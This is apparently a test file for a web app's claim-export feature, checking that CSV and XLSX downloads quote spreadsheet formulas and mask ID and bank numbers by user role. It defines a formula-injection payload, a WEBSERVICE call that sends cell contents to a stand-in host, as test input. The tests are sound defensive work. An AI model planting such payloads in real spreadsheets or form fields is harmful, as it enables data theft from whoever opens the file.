"""The web downloads /ekspor/klaim.csv and .xlsx: for people (Indonesian headers, labels, `;` CSV,
WITA file name), masked by role, and a formula in partner or coordinator text never runs."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
from nicegui.testing import User

from models import ClaimStatus
from tests.factories import make_claim
from tests.ui.conftest import login

ATTACK = '=WEBSERVICE("http://x/?"&A1)'


async def download(user: User, marker: str, role: str = "coordinator"):
    await login(user, role)
    await user.open("/klaim")
    user.find(marker=marker).click()
    response = await user.download.next(timeout=5)
    assert response.status_code == 200
    return response


async def test_csv_download_quotes_a_formula_in_worker_name_and_hold_reason(accounts, user: User):
    make_claim(ClaimStatus.ON_HOLD, worker_name=ATTACK, hold_reason="@SUM(A1)")
    response = await download(user, "export-csv")
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert (rows[0]["Nama Pekerja"], rows[0]["Alasan Ditunda"]) == ("'" + ATTACK, "'@SUM(A1)")


async def test_xlsx_download_writes_a_formula_as_quoted_text_not_a_formula(accounts, user: User):
    make_claim(ClaimStatus.ON_HOLD, worker_name=ATTACK, hold_reason=ATTACK)
    response = await download(user, "export-xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    for name in ("Nama Pekerja", "Alasan Ditunda"):
        assert row[name].value == "'" + ATTACK
        assert row[name].data_type != "f"
    assert row["Jumlah Disetujui (Rp)"].data_type == "n"


NIK, ACCOUNT = "5371014107850001", "0012345678"  # the factory's claim
SECRET_HOLD = f"Rekening {ACCOUNT} diblokir, NIK {NIK} dicek"


async def _csv_as(user: User, role: str) -> tuple[str, list[dict[str, str]]]:
    make_claim(ClaimStatus.ON_HOLD, hold_reason=SECRET_HOLD)
    response = await download(user, "export-csv", role)
    text = response.text.lstrip("\ufeff")
    return text, list(csv.DictReader(io.StringIO(text), delimiter=";"))


async def test_a_viewers_csv_download_shows_no_full_account_number_or_nik(accounts, user: User):
    text, rows = await _csv_as(user, "viewer")
    assert NIK not in text and ACCOUNT not in text
    assert (rows[0]["NIK Pekerja"], rows[0]["No. Rekening"]) == ("537101••••••0001", "••••••5678")


async def test_a_coordinators_csv_download_shows_them_in_full(accounts, user: User):
    _, rows = await _csv_as(user, "coordinator")
    assert (rows[0]["NIK Pekerja"], rows[0]["NIK Penerima"], rows[0]["No. Rekening"]) == (NIK, NIK, ACCOUNT)
    assert rows[0]["Alasan Ditunda"] == SECRET_HOLD


async def test_a_viewers_xlsx_download_shows_no_full_account_number_or_nik(accounts, user: User):
    make_claim(ClaimStatus.ON_HOLD, hold_reason=SECRET_HOLD)
    response = await download(user, "export-xlsx", "viewer")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not any(NIK in v or ACCOUNT in v for v in values)
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, (c.value for c in sheet[2]), strict=True))
    assert row["No. Rekening"] == "••••••5678"


async def test_the_csv_download_has_labels_wita_headers_and_a_wita_file_name(accounts, user: User):
    make_claim(ClaimStatus.ON_HOLD, hold_reason="Menunggu KTP")
    response = await download(user, "export-csv")
    assert response.text.startswith("\ufeffNo. Klaim;Revisi;Status;Kode Status;")
    row = next(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert (row["Status"], row["Kode Status"]) == ("Ditunda", "ON_HOLD")
    assert row["Diterima (WITA)"].count("/") == 2 and row["Jenis Santunan"] != "JKK_STMB"
    assert re.search(r'filename="klaim_\d{8}_\d{4}_WITA\.csv"', response.headers["content-disposition"])
